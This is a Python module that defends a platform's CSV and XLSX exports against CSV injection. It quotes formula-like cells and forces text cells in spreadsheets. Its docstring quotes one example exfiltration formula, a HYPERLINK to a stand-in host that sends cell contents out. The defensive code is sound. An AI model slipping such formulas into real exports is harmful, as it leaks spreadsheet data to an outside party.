"""Spreadsheet-safe tables: every CSV and XLSX the platform writes goes through this module.

A spreadsheet program runs a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
return as a formula, so a task title typed into the API as `=HYPERLINK("http://x/?"&A1,"...")`
becomes a live link that leaks the sheet (CSV injection, OWASP). As OWASP advises:

- CSV: `safe_cell` prefixes such text with a single quote; `write_csv` applies it to every cell.
- XLSX: `xlsx_cell` stores text as a string, never a formula (Excel shows it as typed, and its
  quote-prefix flag keeps an edited cell text too).

Only text is changed: numbers (negative ones too) stay numbers. Pure: no I/O, no framework.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:  # openpyxl takes half a second to import: only the XLSX writers pay it
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet.worksheet import Worksheet

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
BYTE_ORDER_MARK = "\ufeff"


def is_formula_like(value: object) -> bool:
    """Text a spreadsheet program would read as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def safe_cell(value: Any) -> Any:
    """A CSV cell that no spreadsheet program evaluates: formula-like text gets a leading `'`.
    Anything that is not text is returned unchanged."""
    return "'" + value if is_formula_like(value) else value


def write_csv(rows: Iterable[Sequence[Any]], *, bom: bool = False) -> str:
    """The rows (header first, if any) as CSV text, every cell through `safe_cell`.
    `bom`: start with a UTF-8 byte order mark, so Excel reads Vietnamese text correctly."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    return (BYTE_ORDER_MARK if bom else "") + buffer.getvalue()


def xlsx_cell(sheet: Worksheet, value: Any) -> Cell:
    """A cell of `sheet` holding `value`, for `sheet.append([...])`. Text is always a string
    cell: never a formula, nor an error value like `#N/A`; control characters, which XLSX
    cannot hold (openpyxl refuses the whole file), are dropped."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    cell = Cell(sheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"
        if is_formula_like(value):
            cell.quotePrefix = True
    return cell


def append_xlsx_row(sheet: Worksheet, values: Iterable[Any]) -> None:
    """Append one row of `xlsx_cell`s to the sheet."""
    sheet.append([xlsx_cell(sheet, value) for value in values])
